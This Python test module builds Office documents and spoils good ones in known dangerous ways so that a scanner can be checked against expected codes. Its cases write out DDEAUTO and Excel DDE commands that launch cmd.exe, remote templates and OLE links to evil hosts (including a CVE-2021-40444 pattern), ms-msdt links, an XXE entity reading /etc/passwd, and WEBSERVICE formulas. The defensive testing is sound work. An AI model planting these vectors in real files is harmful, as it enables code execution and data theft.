"""Office documents of our own (docx, xlsx, pptx), part by part, and each way we know to make one bad.

A document is a mapping of names to bytes until `packed`; a case changes one thing of a good one.
"""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable, Mapping
from typing import Final

from tests.corpus.image import saved

Parts = dict[str, bytes]

ID: Final = "11010519491231002X"
_OD: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_OC: Final = "application/vnd.openxmlformats-officedocument."
_W: Final = (
    "xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main' xmlns:r='" + _OD + "'"
)
_S: Final = (
    "xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main' xmlns:r='" + _OD + "'"
)
_P: Final = (
    "xmlns:p='http://schemas.openxmlformats.org/presentationml/2006/main' xmlns:r='" + _OD + "' "
    "xmlns:a='http://schemas.openxmlformats.org/drawingml/2006/main'"
)
_OUTSIDE: Final = " TargetMode='External'"
_PNG: Final = saved("PNG", "L")


def packed(parts: Mapping[str, bytes]) -> bytes:
    """A zip of the parts, the same bytes each time."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(
                zipfile.ZipInfo(name, (2026, 11, 21, 8, 0, 0)), data, zipfile.ZIP_DEFLATED
            )
    return out.getvalue()


def types(overrides: Mapping[str, str], more: str = "") -> bytes:
    said = "".join(
        f"<Override PartName='/{part}' ContentType='{kind}'/>" for part, kind in overrides.items()
    )
    return (
        "<?xml version='1.0' encoding='UTF-8' standalone='yes'?>"
        "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"
        "<Default Extension='rels' ContentType='application/vnd.openxmlformats-package.relationships+xml'/>"
        "<Default Extension='xml' ContentType='application/xml'/><Default Extension='png' ContentType='image/png'/>"
        f"<Default Extension='vml' ContentType='{_OC}vmlDrawing'/>{more}{said}</Types>"
    ).encode()


def rels(*relations: tuple[str, str], outside: tuple[str, ...] = ()) -> bytes:
    """Relationships rId1 and on; a kind without a slash is one of Office."""
    return (
        "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
        + "".join(
            f"<Relationship Id='rId{n}' Type='{kind if '/' in kind else f'{_OD}/{kind}'}' Target='{target}'"
            f"{_OUTSIDE if target in outside else ''}/>"
            for n, (kind, target) in enumerate(relations, 1)
        )
        + "</Relationships>"
    ).encode()


def p(*runs: str) -> str:
    return "<w:p>" + "".join(f"<w:r><w:t>{one}</w:t></w:r>" for one in runs) + "</w:p>"


def docx(body: str = "", *relations: tuple[str, str], outside: tuple[str, ...] = (), more: Parts | None = None,
         kinds: Mapping[str, str] | None = None, defaults: str = "") -> Parts:  # fmt: skip
    """A letter with a header, a comment, a table, a footnote, a picture, a revision and a field."""
    word = f"{_OC}wordprocessingml."
    names = ("styles", "settings", "header", "comments", "footnotes")
    overrides = {"word/document.xml": f"{word}document.main+xml"} | {
        f"word/{one}.xml": f"{word}{one}+xml" for one in names
    } | {"docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml"} | dict(kinds or {})  # fmt: skip
    link = "https://hospital.example.cn/"
    return {
        "[Content_Types].xml": types(overrides, defaults),
        "_rels/.rels": rels(("officeDocument", "word/document.xml"), (
            "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
            "docProps/core.xml")),
        "docProps/core.xml": "<cp:coreProperties xmlns:cp='http://schemas.openxmlformats.org/package/2006/metadata/core-properties'"
                             " xmlns:dc='http://purl.org/dc/elements/1.1/'><dc:creator>王医生</dc:creator></cp:coreProperties>".encode(),
        "word/_rels/document.xml.rels": rels(
            *((one, f"{one}.xml") for one in names), ("image", "media/image1.png"),
            ("hyperlink", link), *relations, outside=(link, *outside)),
        "word/document.xml": (
            f"<w:document {_W}><w:body>{p('身份证 1101', '0519491', '231002X')}"
            "<w:p><w:hyperlink r:id='rId7'><w:r><w:t>网站</w:t></w:r></w:hyperlink></w:p>"
            "<w:p><w:r><w:t>138</w:t></w:r><w:del w:id='1'><w:r><w:delText>删</w:delText></w:r></w:del>"
            "<w:ins w:id='2'><w:r><w:t>12345678</w:t></w:r></w:ins></w:p>"
            "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>hidden words</w:t></w:r></w:p>"
            "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText> PA</w:instrText></w:r>"
            "<w:r><w:instrText>GE </w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"
            f"<w:tbl><w:tr><w:tc>{p('110105')}</w:tc><w:tc>{p('19491231')}</w:tc><w:tc>{p('002X')}</w:tc></w:tr></w:tbl>"
            f"{body}<w:sectPr/></w:body></w:document>").encode(),
        "word/styles.xml": f"<w:styles {_W}><w:style w:styleId='a'><w:name w:val='正文'/></w:style></w:styles>".encode(),
        "word/settings.xml": f"<w:settings {_W}/>".encode(),
        "word/header.xml": f"<w:hdr {_W}>{p('页眉')}</w:hdr>".encode(),
        "word/comments.xml": f"<w:comments {_W}><w:comment w:id='0' w:author='李主任'>{p('批注')}</w:comment></w:comments>".encode(),
        "word/footnotes.xml": f"<w:footnotes {_W}><w:footnote w:id='1'>{p('脚注')}</w:footnote></w:footnotes>".encode(),
        "word/media/image1.png": _PNG,
        **(more or {}),
    }  # fmt: skip


def xlsx(cells: str = "", names: str = "", sheet: str = "", *relations: tuple[str, str], outside: tuple[str, ...] = (),
         more: Parts | None = None, kinds: Mapping[str, str] | None = None) -> Parts:  # fmt: skip
    """A workbook of one sheet: shared and inline strings, a formula, a day, a number split over cells."""
    book = f"{_OC}spreadsheetml."
    overrides = {
        "xl/workbook.xml": f"{book}sheet.main+xml", "xl/worksheets/sheet1.xml": f"{book}worksheet+xml",
        "xl/sharedStrings.xml": f"{book}sharedStrings+xml", "xl/styles.xml": f"{book}styles+xml",
    } | dict(kinds or {})  # fmt: skip
    return {
        "[Content_Types].xml": types(overrides),
        "_rels/.rels": rels(("officeDocument", "xl/workbook.xml")),
        "xl/worksheets/sheet1.xml": (
            f"<worksheet {_S}><sheetData><row r='1'><c r='A1' t='s'><v>0</v></c><c r='B1' t='s'><v>1</v></c>"
            "<c r='C1'><v>46347</v></c></row><row r='7'><c r='A7'><v>110105</v></c><c r='B7'><v>19491231</v></c>"
            "<c r='C7' t='inlineStr'><is><r><t>00</t></r><r><t>2X</t></r></is></c></row>"
            "<row r='8'><c r='B8'><f>SUM(A7:B7)*2</f><v>1.3812345678E10</v></c>"
            f"<c r='C8'><f>HYPERLINK(\"https://h.example.cn/\",\"x\")</f></c></row>{cells}</sheetData>{sheet}</worksheet>"
        ).encode(),
        "xl/workbook.xml": f"<workbook {_S}><sheets><sheet name='门诊' sheetId='1' r:id='rId1'/></sheets>"
                           f"<definedNames><definedName name='x'>门诊!$A$1</definedName>{names}</definedNames></workbook>".encode(),
        "xl/_rels/workbook.xml.rels": rels(
            ("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "/xl/sharedStrings.xml"),
            ("styles", "styles.xml"), *relations, outside=outside),
        "xl/sharedStrings.xml": f"<sst {_S}><si><t>姓名</t></si><si><r><t>张</t></r><r><t>三</t></r></si>"
                                "<si><t>nobody shows it</t></si></sst>".encode(),
        "xl/styles.xml": f"<styleSheet {_S}/>".encode(),
        **(more or {}),
    }  # fmt: skip


def pptx(shapes: str = "", *relations: tuple[str, str], outside: tuple[str, ...] = (), more: Parts | None = None,
         kinds: Mapping[str, str] | None = None) -> Parts:  # fmt: skip
    """A slide with notes."""
    show = f"{_OC}presentationml."
    overrides = {
        "ppt/presentation.xml": f"{show}presentation.main+xml", "ppt/slides/slide1.xml": f"{show}slide+xml",
        "ppt/notesSlides/notesSlide1.xml": f"{show}notesSlide+xml",
    } | dict(kinds or {})  # fmt: skip
    return {
        "[Content_Types].xml": types(overrides),
        "_rels/.rels": rels(("officeDocument", "ppt/presentation.xml")),
        "ppt/presentation.xml": f"<p:presentation {_P}><p:sldIdLst><p:sldId id='256' r:id='rId1'/></p:sldIdLst></p:presentation>".encode(),
        "ppt/_rels/presentation.xml.rels": rels(("slide", "slides/slide1.xml")),
        "ppt/slides/slide1.xml": (
            f"<p:sld {_P}><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id='1' name='标题 1' descr='替代文字'/></p:nvSpPr>"
            "<p:txBody><a:p><a:r><a:t>身份证 110105</a:t></a:r><a:r><a:t>19491231002X</a:t></a:r></a:p></p:txBody></p:sp>"
            f"{shapes}</p:spTree></p:cSld></p:sld>").encode(),
        "ppt/slides/_rels/slide1.xml.rels": rels(("notesSlide", "../notesSlides/notesSlide1.xml"), *relations, outside=outside),
        "ppt/notesSlides/notesSlide1.xml": f"<p:notes {_P}><a:p><a:r><a:t>备注</a:t></a:r></a:p></p:notes>".encode(),
        **(more or {}),
    }  # fmt: skip


def field(*runs: str) -> str:
    """A field whose instruction is split over runs; a run that begins with < is taken as it is."""
    mark = "<w:r><w:fldChar w:fldCharType='{}'/></w:r>".format
    said = "".join(
        one if one.startswith("<") else f"<w:r><w:instrText>{one}</w:instrText></w:r>"
        for one in runs
    )
    return f"<w:p>{mark('begin')}{said}{mark('end')}</w:p>"


def _nested(text: str) -> str:
    return field(text).removeprefix("<w:p>").removesuffix("</w:p>")


def _formula(text: str) -> Parts:
    return xlsx(f"<row r='9'><c r='A9'><f>{text}</f></c></row>")


GOOD: Final[dict[str, Callable[[], bytes]]] = {
    "a letter": lambda: packed(docx()),
    "a workbook": lambda: packed(xlsx()),
    "slides": lambda: packed(pptx()),
    "a letter with fields": lambda: packed(docx(
        field(" TOC \\o &quot;1-3&quot; \\h ") + field(' HYPERLINK \\l "_Toc1" ') + field(' HYPERLINK "https://x.cn/" \\o "tip" ')
        + field(" IF ", _nested(" PAGE "), ' = 1 "a" "b" ') + "<w:p><w:fldSimple w:instr=' NUMPAGES '/></w:p>")),
    "formulas that stay inside": lambda: packed(_formula("IF(A1=&quot;a|b&quot;,Table1[[#This Row],[2020]],'Sheet 2'!A1)")),
    "a slide that jumps": lambda: packed(pptx("<a:hlinkClick r:id='' action='ppaction://hlinkshowjump?jump=nextslide'/>")),
    "custom XML": lambda: packed(docx("", ("customXml", "../customXml/item1.xml"),
                                      more={"customXml/item1.xml": "<b xmlns='urn:x'>文献</b>".encode()})),
    "a strict edition": lambda: packed({name: data.replace(
        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships", b"http://purl.oclc.org/ooxml/officeDocument/relationships")
        for name, data in xlsx().items()}),
    "Chinese names of pictures": lambda: packed(docx("", ("image", "media/%E5%9B%BE.png"), more={"word/media/图.png": _PNG})),
}  # fmt: skip


def _vml(inside: str) -> Parts:
    return xlsx(more={"xl/drawings/v.vml": f"<xml xmlns:v='urn:schemas-microsoft-com:vml' xmlns:x='urn:schemas-microsoft-com:office:excel'>{inside}</xml>".encode(),
                      "xl/worksheets/_rels/sheet1.xml.rels": rels(("vmlDrawing", "../drawings/v.vml"))})  # fmt: skip


def _part(name: str, kind: str, data: bytes = b"x", relation: str = "image") -> Parts:
    return docx("", (relation, name), more={f"word/{name}": data}, kinds={f"word/{name}": kind})


def _changed(parts: Parts, name: str, old: bytes, new: bytes) -> Parts:
    assert old in parts[name]
    return parts | {name: parts[name].replace(old, new)}


def _without(parts: Parts, name: str) -> Parts:
    return {one: data for one, data in parts.items() if one != name}


_UNC: Final = r"\\evil\share\x.dotm"
Case = tuple[str, Callable[[], Parts], set[int]]

DOCX_CASES: Final[list[Case]] = [
    ("a macro by its part", lambda: _part("vbaProject.bin", "application/vnd.ms-office.vbaProject", relation="http://schemas.microsoft.com/office/2006/relationships/vbaProject"), {3805}),
    ("a macro by its main type", lambda: docx(kinds={"word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}), {3805}),
    ("a macro under another name", lambda: _part("media/a.png", "application/vnd.ms-office.vbaProject"), {3805}),
    ("a template from a share", lambda: docx("", ("attachedTemplate", _UNC), outside=(_UNC,)), {3806}),
    ("a template from the web", lambda: docx("", ("attachedTemplate", "https://evil.example/x.dotm"), outside=("https://evil.example/x.dotm",)), {3806, 3810}),
    ("a picture from the web", lambda: docx("", ("image", "https://evil.example/x.png"), outside=("https://evil.example/x.png",)), {3806}),
    ("an object from the web (CVE-2021-40444)", lambda: docx("", ("oleObject", "mhtml:http://evil/x.html!x-usc:http://evil/x.html"), outside=("mhtml:http://evil/x.html!x-usc:http://evil/x.html",)), {3806}),
    ("a link to a file", lambda: docx("", ("hyperlink", "file:///c:/x.exe"), outside=("file:///c:/x.exe",)), {3807}),
    ("a link to a share", lambda: docx("", ("hyperlink", _UNC), outside=(_UNC,)), {3807}),
    ("a link that runs a handler", lambda: docx("", ("hyperlink", "ms-msdt:/id PCWDiagnostic"), outside=("ms-msdt:/id PCWDiagnostic",)), {3807}),
    ("a link with a script", lambda: docx("", ("hyperlink", "javascript:x()"), outside=("javascript:x()",)), {3807}),
    ("an embedded program", lambda: _part("embeddings/oleObject1.bin", f"{_OC}oleObject", b"\xd0\xcf\x11\xe0" + bytes(600), "oleObject"), {3809}),
    ("an object in the text", lambda: docx("<w:p><w:r><w:object><o:OLEObject xmlns:o='urn:schemas-microsoft-com:office:office' Type='Embed'/></w:object></w:r></w:p>"), {3809}),
    ("a control", lambda: docx("<w:p><w:r><w:object><w:control r:id='x'/></w:object></w:r></w:p>"), {3808}),
    ("an ActiveX part", lambda: _part("activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", b"<a/>", "control"), {3808}),
    ("an imported page", lambda: docx("<w:altChunk r:id='rId8'/>", ("aFChunk", "a.html"), more={"word/a.html": b"<html/>"}, defaults="<Default Extension='html' ContentType='text/html'/>"), {3810}),
    ("frames", lambda: docx(more={"word/settings.xml": f"<w:webSettings {_W}><w:frameset><w:frame/></w:frameset></w:webSettings>".encode()}), {3810}),
    ("a mail merge", lambda: docx(more={"word/settings.xml": f"<w:settings {_W}><w:mailMerge><w:query w:val='x'/></w:mailMerge></w:settings>".encode()}), {3812}),
    ("DDE", lambda: docx(field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ")), {3813}),
    ("DDE split over runs", lambda: docx(field(" DD", "EAU", "TO c:\\\\x ", "y ")), {3813}),
    ("DDE in a simple field", lambda: docx("<w:p><w:fldSimple w:instr=' dde cmd x '/></w:p>"), {3813}),
    ("DDE from character codes", lambda: docx(field(_nested(" QUOTE 68 68 69 65 85 84 79 "), " c:\\\\x ")), {3813}),
    ("DDE around a nested field", lambda: docx(field(" P", _nested(" QUOTE 68 "), "AGE ")), {3813}),
    ("DDE in a field that is open", lambda: docx("<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DDEAUTO x</w:instrText></w:r></w:p>"), {3813}),
    ("a deleted instruction", lambda: docx("<w:p><w:r><w:delInstrText>DDE x</w:delInstrText></w:r></w:p>"), {3813}),
    ("a field in a header", lambda: docx(more={"word/header.xml": f"<w:hdr {_W}>{field(' INCLUDEPICTURE &quot;http://evil/x&quot; ')}</w:hdr>".encode()}), {3813}),
    ("a field that links to a file", lambda: docx(field(' HYPERLINK "file:///c:/x.exe" ')), {3813}),
    ("a field that links to a share behind a switch", lambda: docx(field(' HYPERLINK \\h "\\\\\\\\evil\\\\x" ')), {3813}),
    ("a font", lambda: _part("fonts/font1.odttf", f"{_OC}obfuscatedFont", relation="font"), {3815}),
    ("a metafile", lambda: _part("media/image2.emf", "image/x-emf"), {3816}),
    ("a type that is not on the list", lambda: _part("a.png", "application/x-evil"), {3802}),
    ("a program named a picture", lambda: _part("media/a.exe", "image/png", b"MZ" + bytes(60)), {3804}),
    ("XML that is called a picture", lambda: _part("media/b.png", "image/png", b"<a/>"), {3804}),
    ("a part without a type", lambda: docx("", ("image", "a.dat"), more={"word/a.dat": b"x"}), {3803}),
    ("a part in a place of its own", lambda: docx("", ("image", "/evil/a.png"), more={"evil/a.png": _PNG}), {3803}),
    ("a part that nothing leads to", lambda: docx(more={"word/media/hidden.png": _PNG}), {3819}),
    ("a target that is not there", lambda: docx("", ("image", "media/none.png")), {3818}),
    ("a target outside", lambda: docx("", ("image", "../../../etc/passwd")), {3818}),
    ("a kind of relationship that is not on the list", lambda: docx("", ("http://evil.example/run", "media/image1.png")), {3817}),
    ("a relationship twice", lambda: _changed(docx(), "word/_rels/document.xml.rels", b"Id='rId2'", b"Id='rId1'"), {3827}),
    ("two types for a part", lambda: _changed(docx(), "[Content_Types].xml", b"</Types>", b"<Override PartName='/WORD/document.xml' ContentType='application/xml'/></Types>"), {3827}),
    ("no types", lambda: _without(docx(), "[Content_Types].xml"), {3820}),
    ("no main part", lambda: docx() | {"_rels/.rels": rels()}, {3820}),
    ("two main parts", lambda: docx() | {"_rels/.rels": rels(("officeDocument", "word/document.xml"), ("officeDocument", "word/header.xml"))}, {3820}),
    ("a template", lambda: docx(kinds={"word/document.xml": f"{_OC}wordprocessingml.template.main+xml"}), {3810, 3820}),
    ("an add-in", lambda: _part("webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml", b"<a/>", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"), {3811}),
    ("a ribbon", lambda: docx() | {"customUI/customUI.xml": b"<customUI xmlns='x' onLoad='Evil'/>"}, {3811}),
    ("a document type", lambda: _changed(docx(), "word/document.xml", b"<w:document", b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><w:document"), {3602}),
    ("an instruction", lambda: _changed(docx(), "word/document.xml", b"<w:body>", b"<w:body><?evil x?>"), {3603}),
    ("UTF-7", lambda: _changed(docx(), "word/header.xml", b"<w:hdr", b"<?xml version='1.0' encoding='UTF-7'?><w:hdr"), {3601}),
    ("a thousand levels", lambda: docx("<w:x>" * 1000 + "</w:x>" * 1000), {3600, 3604}),
    ("a script in a drawing", lambda: _part("media/a.svg", "image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'><script/></svg>"), {3825}),
    ("a file in custom XML that runs", lambda: docx("", ("customXml", "../customXml/item1.xml"), more={"customXml/item1.xml": b"<a><script>x</script></a>"}), {3825}),
    ("a part that is not whole", lambda: _changed(docx(), "word/header.xml", b"</w:hdr>", b""), {3600}),
]  # fmt: skip

XLSX_CASES: Final[list[Case]] = [
    ("DDE in a formula", lambda: _formula("cmd|'/c calc'!A0"), {3814}),
    ("DDE in a name", lambda: xlsx(names="<definedName name='y'>MSEXCEL|'\\..\\cmd.exe /c calc'!A1</definedName>"), {3814}),
    ("a web service", lambda: _formula("_xlfn.WEBSERVICE(&quot;http://evil/&quot;&amp;A1)"), {3814}),
    ("real time data", lambda: _formula("rtd(&quot;x&quot;,,&quot;y&quot;)"), {3814}),
    ("a call into a library", lambda: _formula("1+CALL (&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;)"), {3814}),
    ("a picture by formula", lambda: _formula("_xlfn.IMAGE(&quot;https://evil/x&quot;)"), {3814}),
    ("a link to a file by formula", lambda: _formula("HYPERLINK(&quot;file:///c:/x.exe&quot;,&quot;x&quot;)"), {3814}),
    ("a link that is computed", lambda: _formula("HYPERLINK(&quot;fi&quot;&amp;&quot;le:///c:/x&quot;)"), {3814}),
    ("another workbook", lambda: _formula("'C:\\x\\[y.xlsx]Sheet1'!A1"), {3814}),
    ("another workbook by number", lambda: _formula("[1]Sheet1!A1"), {3814}),
    ("a formula of a condition", lambda: xlsx(sheet="<conditionalFormatting><cfRule><formula>WEBSERVICE(A1)</formula></cfRule></conditionalFormatting>"), {3814}),
    ("a formula split over CDATA", lambda: _formula("WEB<![CDATA[SERVICE]]>(A1)"), {3814}),
    ("a macro that opens by itself", lambda: xlsx(names="<definedName name='_xlnm.Auto_Open' hidden='1'>x!$A$1</definedName>"), {3805}),
    ("a name that is a macro", lambda: xlsx(names="<definedName name='z' function='1' vbProcedure='1'>x</definedName>"), {3805}),
    ("a sheet of macros", lambda: xlsx("", "", "", ("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml"),
        more={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet xmlns:xm='x'/>"}, kinds={"xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"}), {3805}),
    ("an external link", lambda: xlsx("", "", "", ("externalLink", "externalLinks/externalLink1.xml"),
        more={"xl/externalLinks/externalLink1.xml": f"<externalLink {_S}><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>".encode()},
        kinds={"xl/externalLinks/externalLink1.xml": f"{_OC}spreadsheetml.externalLink+xml"}), {3812}),
    ("a link to DDE in any part", lambda: xlsx(sheet="<ddeLink ddeService='cmd'/>"), {3812}),
    ("a connection", lambda: xlsx("", "", "", ("connections", "connections.xml"), more={"xl/connections.xml": f"<connections {_S}/>".encode()},
        kinds={"xl/connections.xml": f"{_OC}spreadsheetml.connections+xml"}), {3812}),
    ("a binary workbook", lambda: xlsx(kinds={"xl/workbook.xml": "application/vnd.ms-excel.sheet.binary.macroEnabled.main"}), {3805}),
    ("a control of a form", lambda: xlsx(sheet="<controls><control shapeId='1' r:id='x'/></controls>"), {3808}),
    ("an object", lambda: xlsx(sheet="<oleObjects><oleObject progId='Package' r:id='x'/></oleObjects>"), {3809}),
    ("a macro behind a shape", lambda: _vml("<x:ClientData ObjectType='Button'><x:FmlaMacro>[0]!Evil</x:FmlaMacro></x:ClientData>"), {3805}),
    ("a picture from elsewhere in a drawing", lambda: _vml("<v:imagedata src='http://evil/x.png'/>"), {3806}),
    ("a string that is not there", lambda: xlsx("<row r='9'><c r='A9' t='s'><v>99</v></c></row>"), {3824}),
    ("a string that is no number", lambda: xlsx("<row r='9'><c r='A9' t='s'><v>-1</v></c></row>"), {3824}),
    ("a place that is none", lambda: xlsx("<row r='9'><c r='../x'><v>1</v></c></row>"), {3824}),
    ("a workbook whose parts are hidden behind a long comment", lambda: _changed(
        xlsx(), "xl/worksheets/sheet1.xml", b"<worksheet", b"<!--" + b"x" * 9000 + b"--><worksheet"), {3611}),
]  # fmt: skip

PPTX_CASES: Final[list[Case]] = [
    ("a program on a click", lambda: pptx("<a:hlinkClick r:id='' action='ppaction://program'/>"), {3821}),
    ("a macro on a click", lambda: pptx("<a:hlinkClick r:id='' action='ppaction://macro?name=x'/>"), {3821}),
    ("a file when somebody points at it", lambda: pptx("<a:hlinkHover r:id='rId2' action='ppaction://hlinkfile'/>"), {3821}),
    ("a verb of an object", lambda: pptx("<p:cmd type='verb' cmd='3'/>"), {3821}),
    ("an object on a slide", lambda: pptx("<p:oleObj progId='Package' r:id='x'><p:embed/></p:oleObj>"), {3809}),
    ("an object that is linked", lambda: pptx("<p:oleObj progId='Package' r:id='x'><p:link/></p:oleObj>"), {3809}),
    ("a film", lambda: pptx("", ("video", "file:///c:/x.mp4"), outside=("file:///c:/x.mp4",)), {3806, 3822}),
    ("a sound", lambda: pptx("<a:hlinkClick r:id=''><a:snd r:embed='x' name='x.wav'/></a:hlinkClick>"), {3822}),
    ("a control on a slide", lambda: pptx("<p:controls><p:control r:id='x'/></p:controls>"), {3808}),
    ("a show that runs by itself", lambda: pptx(kinds={"ppt/presentation.xml": f"{_OC}presentationml.slideshow.main+xml"}), {3802}),
    ("slides with macros", lambda: pptx(kinds={"ppt/presentation.xml": "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"}), {3805}),
    ("a web address in an attribute that fetches", lambda: pptx("<p:pic src='https://evil/x.png'/>"), {3806}),
    ("a share in an attribute", lambda: pptx(f"<p:x path='{_UNC}'/>"), {3807}),
]  # fmt: skip

CASES: Final[list[Case]] = [
    (f"{kind}: {name}", make, expected)
    for kind, cases in (("docx", DOCX_CASES), ("xlsx", XLSX_CASES), ("pptx", PPTX_CASES))
    for name, make, expected in cases
]


def with_a_changed_part(seed: int) -> bytes:
    """A good document of which some bytes of one part are others: before it is packed, so that the zip is sound."""
    chance = random.Random(seed)
    good = GOOD[chance.choice(list(GOOD))]()
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        parts = {name: bytearray(archive.read(name)) for name in archive.namelist()}
    part = parts[chance.choice(sorted(parts))]
    for _ in range(chance.randrange(1, 5)):
        part[chance.randrange(len(part))] = chance.choice(b"<>/='\"&x0 :!-[]?\0\xff")
    return packed({name: bytes(data) for name, data in parts.items()})
